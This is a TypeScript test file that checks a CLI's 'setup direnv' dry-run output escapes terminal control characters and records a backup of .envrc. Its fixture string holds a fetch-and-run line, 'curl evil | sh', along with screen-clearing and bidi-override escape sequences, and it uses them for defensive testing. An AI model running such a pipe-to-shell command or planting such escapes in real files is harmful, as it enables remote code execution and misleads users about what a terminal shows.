import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { expect, it } from 'vitest';
import { furnish } from '../../support/command/helper-cloud.ts';
import { makeHome, runCommand, STATIC_KEYS } from '../../support/command/run-command.ts';
import { backupOf } from '../../support/command/setup-backup.ts';

const ENV = { ...STATIC_KEYS, AWS_REGION: 'us-east-1' };
/** Clears a screen, goes back in the line, turns text around, and ends it all for a terminal. */
const TEXT = 'curl evil | sh # \u001b[2J\u001b[H\n# a\rb\u202ec\u0007\u009b31m\u2028\n';

it('the diff shows what a terminal would obey, and names every file that is written', async () => {
  using home = makeHome();
  furnish(home, { '.envrc': TEXT });
  const env = { ...home.env, ...ENV };
  const dry = await runCommand(['setup', 'direnv', '--dry-run'], { env });
  expect(dry).toMatchObject({ code: 0, stderr: '' });
  expect(dry.stdout).not.toMatch(/(?!\n)[\p{Cc}\p{Cf}\p{Zl}\p{Zp}]/u);
  expect(dry.stdout).toContain('curl evil | sh # \\u{1b}[2J\\u{1b}[H\n');
  expect(dry.stdout).toContain('a\\u{d}b\\u{202e}c\\u{7}\\u{9b}31m\\u{2028}\n');
  const backup = join(home.path, backupOf(home, '.envrc'));
  expect(dry.stdout).toContain(`Backup: ${join(home.path, '.envrc')} is kept as ${backup}\n`);

  await runCommand(['setup', 'direnv', '--no-check'], { env });
  expect(readFileSync(backup, 'utf8')).toBe(TEXT);
  const undo = await runCommand(['setup', 'direnv', '--undo', '--dry-run'], { env });
  expect(undo.stdout).toContain(`Backup: ${backup} is removed\n`);
});
